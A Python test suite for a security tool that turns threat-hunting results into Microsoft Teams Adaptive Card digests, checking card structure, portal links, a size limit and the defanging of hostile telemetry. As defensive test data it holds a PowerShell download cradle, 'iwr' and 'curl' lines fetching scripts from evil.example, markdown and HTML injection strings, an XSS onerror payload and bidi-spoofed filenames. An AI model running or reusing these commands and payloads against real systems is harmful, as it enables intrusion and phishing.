"""The Teams digest card: structure, links, the 28 KB bound and hostile telemetry."""

from __future__ import annotations

import base64
import gzip
import json
import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from shared.cards import (
    ADAPTIVE_CARD,
    MAX_PAYLOAD_BYTES,
    PortalLinks,
    build_digest,
    card_of,
    escape_text,
    payload_size,
    summarize_digest,
)
from shared.hunt import Hunt, TeamsOptions
from shared.window import Window

REPO = Path(__file__).resolve().parents[1]
NOW = datetime(2026, 11, 27, 23, 0, tzinfo=UTC)
WINDOW = Window(NOW - timedelta(hours=4), NOW)
DEVICE_ID = "3f6b2c1d9e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"

INVISIBLE = ("\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
             "\u2066\u2067\u2068\u2069\ufeff\x00\x1b\x7f\u2028\u2029")
HOSTILE = ("powershell -c \"[Reset your password](https://evil.example/login) "
           "![pixel](https://evil.example/p.png) <at>SOC Lead</at> <img src=x onerror=alert(1)> "
           "<a href='https://evil.example'>click</a> **bold** _it_ # heading "
           "www.evil.example {{DATE(2017-02-14T06:08:39Z, SHORT)}} "
           f"invoice{INVISIBLE}gpj.exe\" ")
HOSTILE_32K = (HOSTILE * (32_767 // len(HOSTILE) + 1))[:32_767]


def hunt(**overrides: Any) -> Hunt:
    fields: dict[str, Any] = {
        "id": "6f1d3a52-8c1e-4c47-9a0e-2f6b1c9d7e01",
        "name": "Encoded PowerShell from Office",
        "query": "DeviceProcessEvents\n| where FileName =~ \"powershell.exe\"",
        "source": "defender",
        "path": Path("hunts/encoded.yaml"),
        "severity": "High",
        "tactics": ("Execution",),
        "techniques": ("T1059.001", "T1105"),
    }
    fields.update(overrides)
    return Hunt(**fields)


def row(index: int = 0, **overrides: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "Timestamp": datetime(2026, 11, 27, 22, 14, 3, tzinfo=UTC) + timedelta(seconds=index),
        "DeviceId": DEVICE_ID,
        "DeviceName": "ws-fin-042.contoso.local",
        "AccountDomain": "contoso",
        "AccountName": "j.doe",
        "InitiatingProcessFileName": "WINWORD.EXE",
        "FileName": "powershell.exe",
        "ProcessCommandLine": "powershell.exe -NoP -W Hidden -Enc SQBFAFgA",
        "DecodedCommand": "IEX (New-Object Net.WebClient).DownloadString('x')",
        "ReportId": 1000 + index,
    }
    values.update(overrides)
    return values


def walk(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        yield node
        for value in node.values():
            yield from walk(value)
    elif isinstance(node, list):
        for item in node:
            yield from walk(item)


def text_runs(payload: dict[str, Any]) -> list[dict[str, Any]]:
    return [n for n in walk(card_of(payload)) if n.get("type") == "TextRun"]


def all_text(payload: dict[str, Any]) -> str:
    return "\n".join(str(n.get("text", "")) for n in walk(card_of(payload)))


def findings_shown(payload: dict[str, Any]) -> int:
    return sum(1 for e in card_of(payload)["body"][1:] if e["type"] == "Container")


def more_line(payload: dict[str, Any]) -> str | None:
    last = card_of(payload)["body"][-1]
    return str(last["text"]) if last["type"] == "TextBlock" else None


# --- structure -----------------------------------------------------------------------------

def test_payload_is_a_teams_message_carrying_one_adaptive_card_1_4() -> None:
    payload = build_digest(hunt(), WINDOW, [row()], total_new=1)

    assert payload["type"] == "message"
    assert len(payload["attachments"]) == 1
    assert payload["attachments"][0]["contentType"] == ADAPTIVE_CARD
    card = card_of(payload)
    assert card["type"] == "AdaptiveCard"
    assert card["version"] == "1.4"
    assert card["msteams"] == {"width": "Full"}, "no mention entities, ever"


def test_header_names_hunt_severity_count_window_and_links_techniques() -> None:
    payload = build_digest(hunt(), WINDOW, [row(i) for i in range(3)], total_new=3)
    header = card_of(payload)["body"][0]
    text = all_text({"attachments": [{"content": header}]})

    assert "Encoded PowerShell from Office" in text
    assert "HIGH" in text
    assert "3 new findings" in text
    assert "2026-11-27 19:00 → 23:00 UTC" in text
    links = {r["text"]: r["selectAction"]["url"] for r in text_runs(payload)
             if "selectAction" in r}
    assert links["T1059.001"] == "https://attack.mitre.org/techniques/T1059/001/"
    assert links["T1105"] == "https://attack.mitre.org/techniques/T1105/"


def test_finding_shows_time_device_account_parent_process_command_and_decoded() -> None:
    payload = build_digest(hunt(), WINDOW, [row()], total_new=1)
    finding = card_of(payload)["body"][1]
    runs = [r for r in walk(finding) if r.get("type") == "TextRun"]
    texts = [r["text"] for r in runs]

    assert "2026-11-27 22:14:03 UTC" in texts
    assert "contoso\\j.doe" in texts
    assert "WINWORD.EXE" in texts
    assert "powershell.exe" in texts
    command = next(r for r in runs if r["text"].startswith("powershell.exe -NoP"))
    assert command["fontType"] == "Monospace"
    decoded = next(r for r in runs if r["text"].startswith("IEX"))
    assert decoded["fontType"] == "Monospace"
    device = next(r for r in runs if r["text"] == "ws-fin-042.contoso.local")
    assert device["selectAction"]["url"] == f"https://security.microsoft.com/machines/v2/{DEVICE_ID}"


def test_network_rows_use_the_initiating_process_and_remote_endpoint() -> None:
    network = {"Timestamp": "2026-11-27T22:14:03.1234567Z", "DeviceId": DEVICE_ID,
               "DeviceName": "ws1", "InitiatingProcessParentFileName": "explorer.exe",
               "InitiatingProcessFileName": "powershell.exe",
               "InitiatingProcessCommandLine": "powershell -c iwr https://x.example/a",
               "RemoteIP": "203.0.113.7", "RemotePort": 443, "RemoteUrl": "x.example"}
    texts = [r["text"] for r in text_runs(build_digest(hunt(), WINDOW, [network], total_new=1))]

    assert "2026-11-27 22:14:03 UTC" in texts
    assert "explorer.exe" in texts
    assert "powershell -c iwr hxxps[:]//x[.]example/a" in texts
    assert "203.0.113.7:443 x.example" in texts


def test_rows_without_process_fields_show_their_own_columns() -> None:
    signin = {"TimeGenerated": NOW, "UserPrincipalName": "ceo@contoso.com",
              "IPAddress": "198.51.100.9", "ResultType": 0, "TenantId": "hidden"}
    payload = build_digest(hunt(source="sentinel"), WINDOW, [signin], total_new=1)
    texts = [r["text"] for r in text_runs(payload)]

    assert "ceo@contoso.com" in texts
    assert "198.51.100.9" in texts
    assert "hidden" not in texts


def test_teams_columns_of_the_hunt_are_added_to_each_finding() -> None:
    chosen = hunt(teams=TeamsOptions(max_findings=5, columns=("SHA256", "FolderPath")))
    payload = build_digest(chosen, WINDOW, [row(SHA256="ab" * 32, FolderPath="C:\\Temp")],
                           total_new=1)
    texts = [r["text"] for r in text_runs(payload)]

    assert "SHA256: " in texts
    assert "ab" * 32 in texts
    assert "C:\\Temp" in texts


def test_defender_action_opens_the_exact_query_in_advanced_hunting() -> None:
    chosen = hunt()
    card = card_of(build_digest(chosen, WINDOW, [row()], total_new=1,
                                portal=PortalLinks(tenant_id="contoso-tenant")))
    action = card["actions"][0]
    url = action["url"]

    assert action["type"] == "Action.OpenUrl"
    assert url.startswith("https://security.microsoft.com/v2/advanced-hunting?query=")
    assert url.endswith("&timeRangeId=week&tid=contoso-tenant")
    encoded = url.split("query=")[1].split("&")[0]
    decoded = gzip.decompress(base64.urlsafe_b64decode(encoded + "=" * (-len(encoded) % 4)))
    assert decoded.decode("utf-16-le") == chosen.query


def test_sentinel_action_opens_the_logs_blade_over_the_hunt_window() -> None:
    workspace = ("/subscriptions/0000/resourceGroups/soc/providers/"
                 "Microsoft.OperationalInsights/workspaces/sentinel")
    chosen = hunt(source="sentinel", query="SigninLogs | where ResultType != 0")
    card = card_of(build_digest(chosen, WINDOW, [row()], total_new=1,
                                portal=PortalLinks(sentinel_workspace_resource_id=workspace)))
    url = card["actions"][0]["url"]

    assert url.startswith("https://portal.azure.com/#/blade/Microsoft_Azure_Monitoring_Logs/")
    assert unquote(url.split("/resourceId/")[1].split("/")[0]) == workspace
    encoded = unquote(url.split("/q/")[1].split("/")[0])
    assert gzip.decompress(base64.b64decode(encoded)).decode() == chosen.query
    assert unquote(url.split("/timespan/")[1]) == WINDOW.iso_interval()


def test_sentinel_hunt_without_workspace_resource_id_has_no_query_link() -> None:
    card = card_of(build_digest(hunt(source="sentinel"), WINDOW, [row()], total_new=1))
    assert "actions" not in card


@pytest.mark.parametrize("device_id", ["not-a-device", "a" * 39, "a" * 40 + "/../../evil",
                                       "[x](https://evil.example)", 42, None])
def test_device_link_only_for_a_well_formed_device_id(device_id: Any) -> None:
    payload = build_digest(hunt(), WINDOW, [row(DeviceId=device_id)], total_new=1)
    urls = [r["selectAction"]["url"] for r in text_runs(payload) if "selectAction" in r]

    assert not [u for u in urls if "machines" in u]
    assert "evil" not in json.dumps(payload)


# --- the size bound --------------------------------------------------------------------------

@pytest.mark.parametrize("count", [1, 50, 5_000])
@pytest.mark.parametrize("max_findings", [10, 50])
def test_payload_stays_under_28_kb_with_32k_hostile_values(count: int, max_findings: int) -> None:
    rows = [row(i, ProcessCommandLine=HOSTILE_32K, DecodedCommand=HOSTILE_32K,
                DeviceName=HOSTILE_32K, AccountName=HOSTILE_32K) for i in range(count)]
    chosen = hunt(teams=TeamsOptions(max_findings=max_findings))
    payload = build_digest(chosen, WINDOW, rows, total_new=count)
    shown = findings_shown(payload)

    assert payload_size(payload) <= MAX_PAYLOAD_BYTES
    assert 1 <= shown <= min(count, max_findings)
    if shown < count:
        assert more_line(payload) == (f"…and {count - shown:,} more of {count:,} new findings "
                                      "not shown here.")
    else:
        assert more_line(payload) is None


def test_multibyte_values_are_measured_in_bytes() -> None:
    emoji = "😈" * 32_767
    rows = [row(i, ProcessCommandLine=emoji, DecodedCommand=emoji) for i in range(5_000)]
    payload = build_digest(hunt(teams=TeamsOptions(max_findings=50)), WINDOW, rows,
                           total_new=5_000)

    assert payload_size(payload) <= MAX_PAYLOAD_BYTES
    assert findings_shown(payload) >= 1


def test_short_findings_are_all_shown_up_to_max_findings() -> None:
    payload = build_digest(hunt(), WINDOW, [row(i) for i in range(10)], total_new=10)
    assert findings_shown(payload) == 10
    assert more_line(payload) is None


def test_total_new_beyond_the_rows_given_is_counted_in_and_more() -> None:
    payload = build_digest(hunt(), WINDOW, [row(i) for i in range(3)], total_new=120)
    assert findings_shown(payload) == 3
    assert "117 more of 120" in (more_line(payload) or "")


def test_summarize_digest_reads_back_the_header() -> None:
    summary = summarize_digest(build_digest(hunt(), WINDOW, [row(i) for i in range(12)],
                                            total_new=1_500))

    assert summary.severity == "HIGH"
    assert summary.hunt_name == "Encoded PowerShell from Office"
    assert summary.total_new == 1_500
    assert summary.findings_shown == 10


def test_payload_size_is_compact_utf8_json() -> None:
    payload = {"a": "é", "b": [1, 2]}
    assert payload_size(payload) == len('{"a":"é","b":[1,2]}'.encode())


# --- hostile telemetry -----------------------------------------------------------------------

def hostile_payload() -> dict[str, Any]:
    rows = [row(i, ProcessCommandLine=HOSTILE_32K, DecodedCommand=HOSTILE_32K,
                DeviceName=HOSTILE, AccountName=HOSTILE, InitiatingProcessFileName=HOSTILE,
                FileName=HOSTILE) for i in range(5)]
    return build_digest(hunt(), WINDOW, rows, total_new=5)


def test_telemetry_is_only_ever_in_text_runs() -> None:
    canary = "CANARY-7f3a"
    values = {k: f"{canary} {k}" for k in row()}
    values["Timestamp"] = f"{canary} not a time"
    payload = build_digest(hunt(), WINDOW, [values], total_new=1)

    for node in walk(card_of(payload)):
        for key, value in node.items():
            if isinstance(value, str) and canary in value:
                assert (node["type"], key) == ("TextRun", "text"), node


def test_hostile_strings_cannot_link_mention_embed_or_hide() -> None:
    telemetry = [r["text"] for r in text_runs(hostile_payload()) if HOSTILE[:10] in r["text"]
                 or "invoice" in r["text"]]
    assert telemetry

    for text in telemetry:
        for needle in ("](", "][", "<at>", "</at>", "<img", "<a ", "https://", "evil.example",
                       "{{DATE"):
            assert needle not in text
        assert not set(text) & set(INVISIBLE)
        assert "\n" not in text or "…[truncated" in text


def test_hostile_payload_keeps_visible_evidence_of_what_was_neutralised() -> None:
    dump = all_text(hostile_payload())

    for marker in ("{U+202E}", "{U+200B}", "{U+2066}", "{U+FEFF}", "{U+0000}"):
        assert marker in dump
    assert "hxxps[:]//evil[.]example/login" in dump
    assert "…[truncated: 32,767 chars]" in dump
    assert "\u2039at>SOC Lead\u2039/at>" in dump


def test_a_time_column_that_is_not_a_time_is_escaped_like_any_value() -> None:
    payload = build_digest(hunt(), WINDOW, [row(Timestamp=HOSTILE)], total_new=1)
    headline = card_of(payload)["body"][1]["items"][0]["inlines"][0]["text"]

    assert headline.startswith("powershell -c")
    assert "<at>" not in headline
    assert "\u202e" not in headline


def test_hostile_hunt_file_strings_are_escaped_too() -> None:
    chosen = hunt(name="<at>all</at> [x](https://evil.example)", tactics=("\u202eExecution",),
                  description="![p](https://evil.example/p.png)")
    dump = all_text(build_digest(chosen, WINDOW, [row()], total_new=1))

    for needle in ("<at>", "https://evil", "\u202e"):
        assert needle not in dump


@pytest.mark.parametrize(("raw", "expected"), [
    ("[a](https://e.x)", "[a] (hxxps[:]//e[.]x)"),
    ("![i](http://e.x/i.png)", "![i] (hxxp[:]//e[.]x/i.png)"),
    ("[a][ref]", "[a] [ref]"),
    ("HTTPS://E.X:8443/a.b?c.d", "HxxPS[:]//E[.]X:8443/a.b?c.d"),
    ("ftp://e.x", "fxp[:]//e[.]x"),
    ("iwr //e.x/a.ps1", "iwr //e[.]x/a.ps1"),
    ("\\\\srv.corp\\share", "\\\\srv.corp\\share"),
    ("javascript:alert(1)", "javascript[:]alert(1)"),
    ("visit www.e.x/a", "visit www[.]e[.]x/a"),
    ("<at>Boss</at>", "\u2039at>Boss\u2039/at>"),
    ("<!-- x -->", "\u2039!-- x -->"),
    ("2>&1 | more < in.txt", "2>&1 | more < in.txt"),
    ("{{TIME(2017-02-14T06:08:39Z)}}", "{ {TIME(2017-02-14T06:08:39Z)}}"),
    ("a\u202eb\u200bc\ufeff", "a{U+202E}b{U+200B}c{U+FEFF}"),
    ("nul\x00esc\x1b", "nul{U+0000}esc{U+001B}"),
    ("line1\r\nline2", "line1↵line2"),
    ("lone \ud800 surrogate", "lone {U+D800} surrogate"),
    ("e\u0301\u0301\u0301\u0301", "e\u0301\u0301{U+0301}{U+0301}"),
    ("x [Convert]::FromBase64String($x)", "x [Convert]::FromBase64String($x)"),
    ("[ref]: //e.x", "[ref] : //e[.]x"),
    ("C:\\Users\\*\\AppData _x_", "C:\\Users\\*\\AppData _x_"),
    (None, ""),
    (True, "true"),
    ({"k": [1, "v"]}, '{"k":[1,"v"]}'),
    (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05Z"),
])
def test_escape_text_rules(raw: Any, expected: str) -> None:
    assert escape_text(raw) == expected


def test_escape_text_keeps_line_breaks_in_multiline_values_but_collapses_runs() -> None:
    assert escape_text("a\n\n\n\n\nb\nc", multiline=True) == "a\n\nb\nc"


def test_escape_text_cuts_long_values_with_a_visible_marker() -> None:
    text = escape_text("A" * 32_767, limit=200)

    assert len(text) == 200
    assert text.endswith(" …[truncated: 32,767 chars]")


def test_escape_text_does_not_cut_a_marker_in_half() -> None:
    text = escape_text("A" * 170 + "\u202e" * 50, limit=200)
    head = text.split(" …[truncated")[0]

    assert head.count("{U+") == head.count("}")


def test_escaped_text_is_inert_even_for_a_markdown_client() -> None:
    """What a client that did run markdown on TextRun text (markdown-it, which the JS renderer
    uses, with raw HTML and URL linkifying on) would make of it: no links, images or HTML.
    Bare domains (``contoso.com``) are left readable, so fuzzy linking is off here."""
    texts = [r["text"] for r in text_runs(hostile_payload())]
    script = ("const md = require('markdown-it')({html: true, linkify: true});"
              "md.linkify.set({fuzzyLink: false});"
              "const texts = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
              "process.stdout.write(JSON.stringify(texts.map((t) => md.render(t))));")
    done = subprocess.run(["node", "-e", script], input=json.dumps(texts), cwd=REPO,
                          capture_output=True, text=True, timeout=60, check=True)
    rendered = json.loads(done.stdout)

    assert len(rendered) == len(texts)
    for html in rendered:
        for needle in ("<a ", "<img", "<at>"):
            assert needle not in html, html


def test_a_value_cut_before_escaping_is_marked_even_when_the_rest_collapses() -> None:
    text = escape_text("a" + "\n" * 5_000 + "tail", limit=100, multiline=True)

    assert "tail" not in text
    assert text.endswith(" …[truncated: 5,005 chars]")


# --- defanging cannot be bypassed (issue 16) -------------------------------------------------

@pytest.mark.parametrize(("raw", "expected"), [
    ("curl http://127.0.0.1:https://evil.example/p.ps1",
     "curl hxxp[:]//127[.]0[.]0[.]1:hxxps[:]//evil[.]example/p.ps1"),
    ("http://x@https://evil.example/a", "hxxp[:]//x@hxxps[:]//evil[.]example/a"),
    ("xhttps://evil.example", "xhxxps[:]//evil[.]example"),
    ("iwr -uri hTtPs://EvIl.example/x", "iwr -uri hxxPs[:]//EvIl[.]example/x"),
    ("hxxps[:]//evil[.]example/p", "hxxps[:]//evil[.]example/p"),
    ("hxxp://evil.example", "hxxp[:]//evil[.]example"),
    ("https:/\\evil.example/x", "hxxps[:]/\\evil[.]example/x"),
    ("https:evil.example", "hxxps[:]evil.example"),
    ("ws://evil.example:8080/s", "ws[:]//evil[.]example:8080/s"),
    ("a=1;ftps://evil.example", "a=1;fxps[:]//evil[.]example"),
    ("xjavascript:alert(1)", "xjavascript[:]alert(1)"),
])
def test_defanging_cannot_be_bypassed(raw: str, expected: str) -> None:
    assert escape_text(raw) == expected


SCHEMES = ("http", "https", "ftp", "ftps", "HTTP", "hTtPs")


@pytest.mark.parametrize("prefix", ["", "x", "1", "http://a.b:", "http://u@", "[", "(", "'"])
@pytest.mark.parametrize("scheme", SCHEMES)
def test_no_scheme_survives_anywhere_in_the_text(prefix: str, scheme: str) -> None:
    text = escape_text(f"{prefix}{scheme}://evil.example/p")

    assert "://" not in text
    assert "evil.example" not in text
    assert scheme.lower() + ":" not in text.lower()
    assert text.lower().count("http") == 0


def test_defanging_twice_changes_nothing() -> None:
    once = escape_text(HOSTILE + " curl http://127.0.0.1:https://evil.example/p.ps1")
    assert escape_text(once, limit=10_000) == once
